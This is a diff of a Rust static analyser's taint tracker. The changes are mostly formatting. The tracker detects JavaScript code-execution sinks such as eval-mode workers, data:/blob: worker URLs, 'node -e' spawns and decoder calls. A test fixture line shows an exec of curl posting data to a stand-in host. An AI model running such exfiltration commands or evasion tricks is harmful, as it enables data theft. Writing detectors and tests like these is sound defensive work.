@@ -457,7 +457,8 @@ impl Tracker<'_, '_> {
             }
             Expression::StringLiteral(s) => s.value.len() >= 16,
             Expression::TemplateLiteral(t) => {
-                t.expressions.is_empty() && t.quasis.iter().map(|q| q.value.raw.len()).sum::<usize>() >= 16
+                t.expressions.is_empty()
+                    && t.quasis.iter().map(|q| q.value.raw.len()).sum::<usize>() >= 16
             }
             Expression::StaticMemberExpression(m) => self.constant_data(&m.object),
             Expression::CallExpression(c) => match c.callee.without_parentheses() {
@@ -521,17 +522,19 @@ impl Tracker<'_, '_> {
             )
             && self.constant_data(&m.object)
             && args().any(|a| match a.without_parentheses() {
-                Expression::ArrowFunctionExpression(_) | Expression::FunctionExpression(_) => self
-                    .an
-                    .source_of(a.span())
-                    .is_some_and(decoder_body),
+                Expression::ArrowFunctionExpression(_) | Expression::FunctionExpression(_) => {
+                    self.an.source_of(a.span()).is_some_and(decoder_body)
+                }
                 Expression::Identifier(id) => {
                     self.decoders.get(id.name.as_str()).copied() == Some(true)
                 }
                 _ => false,
             })
         {
-            return Some((Source::Decoded, format!("a decoding .{}(…)", m.property.name)));
+            return Some((
+                Source::Decoded,
+                format!("a decoding .{}(…)", m.property.name),
+            ));
         }
         None
     }
@@ -568,16 +571,14 @@ impl Tracker<'_, '_> {
         let code: Vec<&Expression> = if let Some(i) = code_runner(p, exprs.len()) {
             exprs.get(i).into_iter().copied().collect()
         } else if p == "worker_threads.Worker"
-            && exprs.iter().skip(1).any(|e| {
+            && (exprs.iter().skip(1).any(|e| {
                 self.an
                     .source_of(e.span())
                     .is_some_and(|s| s.replace(' ', "").contains("eval:true"))
-            })
-            || p == "worker_threads.Worker"
-                && exprs
-                    .first()
-                    .and_then(|e| self.an.source_of(e.span()))
-                    .is_some_and(|s| s.contains("data:") || s.contains("blob:"))
+            }) || exprs
+                .first()
+                .and_then(|e| self.an.source_of(e.span()))
+                .is_some_and(|s| s.contains("data:") || s.contains("blob:")))
         {
             exprs.first().into_iter().copied().collect()
         } else if p == "Reflect.construct" || p == "Reflect.apply" {
@@ -597,14 +598,15 @@ impl Tracker<'_, '_> {
             exprs.get(1).into_iter().copied().collect()
         } else if crate::rules::exec::is_spawn(p)
             && exprs.iter().take(2).any(|e| {
-                self.an.source_of(e.span()).is_some_and(|s| {
-                    s.contains("node") || s.contains("execPath")
-                }) || self.an.fold_expr(e).is_some_and(|s| s.contains("node"))
+                self.an
+                    .source_of(e.span())
+                    .is_some_and(|s| s.contains("node") || s.contains("execPath"))
+                    || self.an.fold_expr(e).is_some_and(|s| s.contains("node"))
             })
             && exprs.iter().take(2).any(|e| {
-                self.an.source_of(e.span()).is_some_and(|s| {
-                    s.contains("-e") || s.contains("--eval") || s.contains("-p")
-                })
+                self.an
+                    .source_of(e.span())
+                    .is_some_and(|s| s.contains("-e") || s.contains("--eval") || s.contains("-p"))
             })
         {
             // `node -e <code>`.
@@ -893,7 +895,10 @@ impl Tracker<'_, '_> {
                     .filter_map(|a| a.as_expression())
                     .filter_map(|e| self.taint_of(e, 0))
                     .max_by_key(|t| t.0)
-                && self.callback_taints.get(&(cur.clone(), idx)).is_none_or(|o| o.0 < t.0)
+                && self
+                    .callback_taints
+                    .get(&(cur.clone(), idx))
+                    .is_none_or(|o| o.0 < t.0)
             {
                 self.callback_taints.insert((cur, idx), t);
                 self.grew = true;
@@ -1058,7 +1063,8 @@ impl<'a> Visit<'a> for Tracker<'_, '_> {
                         self.decoders.insert(id.name.to_string(), dec);
                     }
                     e => {
-                        if self.constant_data(e) && !self.const_data.contains_key(id.name.as_str()) {
+                        if self.constant_data(e) && !self.const_data.contains_key(id.name.as_str())
+                        {
                             self.const_data.insert(id.name.to_string(), true);
                         }
                         if !self.data_paths.contains_key(id.name.as_str())
@@ -1268,7 +1274,10 @@ exec(`curl -s -d ${d} https://c.example/e`);"#;
         }) {
             Parsed::Ok(f) | Parsed::Failed(_, f) => f,
         };
-        f.code_runs.into_iter().map(|f| (f.source, f.sink)).collect()
+        f.code_runs
+            .into_iter()
+            .map(|f| (f.source, f.sink))
+            .collect()
     }
 
     #[test]
